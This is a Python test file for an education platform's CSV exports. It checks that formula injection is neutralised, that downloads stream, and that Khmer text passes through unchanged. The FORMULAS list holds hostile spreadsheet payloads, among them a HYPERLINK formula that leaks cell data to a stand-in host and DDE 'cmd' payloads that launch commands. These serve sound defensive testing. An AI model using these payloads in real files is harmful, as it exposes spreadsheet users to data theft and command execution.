"""Every CSV Kru writes is spreadsheet-safe (no formula runs), UTF-8 with BOM, and streamed.

Each export gets text that Excel or LibreOffice would run as a formula (a learner's display
name, a site's name, a course title sent by a site) and must hand it back as plain text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from edge_server.base import csv_writer
from tests.conftest import form_csrf
from tests.learning_catalog import LESSON, QUIZ, RIGHT, ev, make_catalog, post_events

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HOSTILE = FORMULAS[0]


@dataclass
class Export:
    body: bytes
    streamed: bool


def _cells(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM"
    text = body.decode("utf-8")[1:]
    return list(csv.reader(io.StringIO(text, newline="")))


def _sign_in_site(client, user, password: str = "lotus-pond-7") -> None:
    token = client.get("/api/v1/session").get_json()["csrf_token"]
    response = client.post(
        "/api/v1/session",
        json={"username": user.username, "password": password},
        headers={"X-CSRFToken": token},
    )
    assert response.status_code == 200


def _site_with_hostile_learner(request, name: str):
    """A cohort whose learner is named ``name`` and has events, and its instructor."""
    make_user = request.getfixturevalue("make_user")
    make_cohort = request.getfixturevalue("make_cohort")
    client = request.getfixturevalue("client")
    make_catalog(open_course=True)
    learner = make_user(display_name=name)
    teacher = make_user(role="instructor")
    cohort = make_cohort(name=name, learners=[learner], instructors=[teacher])
    _sign_in_site(client, learner)
    post_events(client, [ev("completed", LESSON, {"duration_s": 90})])
    post_events(client, [ev("attempted", QUIZ, {"response": RIGHT})])
    client.post("/logout", data={"csrf_token": form_csrf(client.get("/learn/").get_data(True))})
    return client, cohort, teacher


def users_csv(request, name: str) -> Export:
    make_user = request.getfixturevalue("make_user")
    client = request.getfixturevalue("client")
    make_user(display_name=name)
    admin = make_user(role="admin")
    _sign_in_site(client, admin)
    response = client.get("/admin/users.csv")
    assert response.status_code == 200
    # A body sent as one piece has its length up front; a streamed one cannot.
    return Export(response.get_data(), "Content-Length" not in response.headers)


def user_export_command(request, name: str) -> Export:
    make_user = request.getfixturevalue("make_user")
    runner = request.getfixturevalue("runner")
    tmp_path = request.getfixturevalue("tmp_path")
    make_user(display_name=name)
    out = tmp_path / "accounts.csv"
    result = runner("user", "export", "-o", str(out))
    assert result.exit_code == 0, result.output
    return Export(out.read_bytes(), streamed=False)


def _teach_csv(request, name: str, which: str) -> Export:
    client, cohort, teacher = _site_with_hostile_learner(request, name)
    _sign_in_site(client, teacher)
    response = client.get(f"/teach/cohorts/{cohort.id}/{which}")
    assert response.status_code == 200
    # A body sent as one piece has its length up front; a streamed one cannot.
    return Export(response.get_data(), "Content-Length" not in response.headers)


def progress_csv(request, name: str) -> Export:
    return _teach_csv(request, name, "progress.csv")


def events_csv(request, name: str) -> Export:
    return _teach_csv(request, name, "events.csv")


def _central_export(request, name: str, path: str) -> Export:
    from sync.central import registry
    from sync.central.db import database
    from sync.central.ingest import ingest_batch
    from sync.protocol import ItemRecord
    from tests.central_support import make_batch, sign_in

    app = request.getfixturevalue("central_app")
    device = registry.add_device(name, "http://central.example", name).device
    batch = make_batch(device.device_id, count=2)
    # A site names its own courses: a misbehaving one can send anything.
    batch.items = [ItemRecord("p/i1", "lesson", name, name, "p/c", name, name, 2)]
    ingest_batch(database, device, batch)
    client = app.test_client()
    sign_in(client, "viewer")
    response = client.get(path)
    assert response.status_code == 200
    # A body sent as one piece has its length up front; a streamed one cannot.
    return Export(response.get_data(), "Content-Length" not in response.headers)


def sites_csv(request, name: str) -> Export:
    return _central_export(request, name, "/export/sites.csv")


def completion_csv(request, name: str) -> Export:
    return _central_export(request, name, "/export/completion.csv")


EXPORTS: list[Callable[..., Export]] = [
    users_csv,
    user_export_command,
    progress_csv,
    events_csv,
    sites_csv,
    completion_csv,
]


@pytest.mark.parametrize("export", EXPORTS, ids=lambda f: f.__name__)
def test_every_csv_export_turns_formulas_into_text(request, export):
    made = export(request, HOSTILE)
    cells = [cell for row in _cells(made.body) for cell in row]
    assert "'" + HOSTILE in cells
    assert not [c for c in cells if c.startswith(csv_writer.FORMULA_STARTS)]


@pytest.mark.parametrize(
    "export", [e for e in EXPORTS if e is not user_export_command], ids=lambda f: f.__name__
)
def test_every_csv_download_is_streamed(request, export):
    assert export(request, "ចាន់ សុភា").streamed


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_each_formula_start_is_neutralised_in_course_titles_a_site_sends(request, formula):
    # Names typed on a site are trimmed; what a site sends to central is taken as it comes.
    cells = [cell for row in _cells(completion_csv(request, formula).body) for cell in row]
    assert "'" + formula in cells


def test_khmer_and_numbers_pass_through_unchanged():
    rows = [["name", "offset_s", "score"], ["សុខ ដារា", -3.5, 0], ["a-b", None, "1"]]
    assert csv_writer.csv_text(rows) == (
        "\ufeffname,offset_s,score\r\nសុខ ដារា,-3.5,0\r\na-b,,1\r\n"
    )
